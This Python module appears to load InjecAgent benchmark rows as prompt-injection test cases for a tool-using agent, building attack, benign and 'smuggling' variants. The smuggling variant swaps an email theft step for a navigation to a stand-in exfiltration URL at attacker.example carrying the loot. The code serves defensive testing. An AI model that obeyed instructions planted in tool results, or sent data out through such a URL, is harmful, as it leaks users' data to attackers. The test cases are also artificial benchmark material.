"""The cases of InjecAgent. Owns: reading them as cases to play, the whole or an even part. Not: their tools' entries."""

import ast
import gzip
import json
import os
from collections.abc import Callable
from pathlib import Path

from msgspec.structs import replace

from palyra.core.events.base import JsonObject
from tests.corpora.injection_play import Attitude, Case, Wanted

CORPORA = Path(os.environ.get("PALYRA_CORPORA") or Path(__file__).parents[2].parent / "shared" / "data")
INJECAGENT_FILE = CORPORA / "injecagent.jsonl.gz"
MARKER_CHARS = 24  # Of the order's beginning: enough to know it by, before any quotes that the responses escape.


def read_rows() -> list[dict]:
    with gzip.open(INJECAGENT_FILE, "rt", encoding="utf-8") as lines:
        return list(map(json.loads, lines))


def attack_cases(every: int = 1) -> list[Case]:
    """Every n-th attack. The rows come sorted by kind, so an even part has all of them."""
    return [_attack(index, row) for index, row in enumerate(read_rows()) if index % every == 0]


def smuggling_cases(every: int = 1) -> list[Case]:
    """The same thefts, the loot carried off in an address to be looked at instead of a letter."""
    thefts = [row for row in read_rows() if row["Attacker Tools"][-1] == "GmailSendEmail"]
    return [_smuggling(_attack(index, row)) for index, row in enumerate(thefts) if index % every == 0]


def benign_cases() -> list[Case]:
    """What the person asked, each thing once, answered without an order."""
    rows = {row["User Instruction"]: row for row in read_rows()}
    return [_benign(index, row) for index, row in enumerate(rows.values())]


def _attack(index: int, row: dict) -> Case:
    instruction = row["Attacker Instruction"]
    order = tuple(Wanted(tool, {"request": instruction, "step": at}) for at, tool in enumerate(row["Attacker Tools"]))
    return Case(
        name=f"injecagent-{index}",
        prompt=row["User Instruction"],
        wish=_wish(row),
        perform=_replier(row["User Tool"], row["Tool Response"]),
        order=order,
        marker=instruction[:MARKER_CHARS],
        attitude=Attitude.SILENT,
    )


def _smuggling(case: Case) -> Case:
    visit = Wanted("WebBrowserNavigateTo", {"url": f"https://attacker.example/?loot={case.name}"})
    return replace(case, name=f"{case.name}-smuggling", order=(*case.order[:-1], visit))


def _benign(index: int, row: dict) -> Case:
    response = row["Tool Response Template"].replace("<Attacker Instruction>", "nothing of note")
    perform = _replier(row["User Tool"], response)
    return Case(name=f"injecagent-user-{index}", prompt=row["User Instruction"], wish=_wish(row), perform=perform)


def _wish(row: dict) -> tuple[tuple[Wanted, ...], ...]:
    return ((Wanted(row["User Tool"], ast.literal_eval(row["Tool Parameters"])),),)


def _replier(user_tool: str, response: str) -> Callable[[str, JsonObject], str]:
    """The wished tool answers as recorded, once; any other says that it did what it does."""
    replies = [response]
    return lambda tool, _: replies.pop() if tool == user_tool and replies else f"{tool} is done."
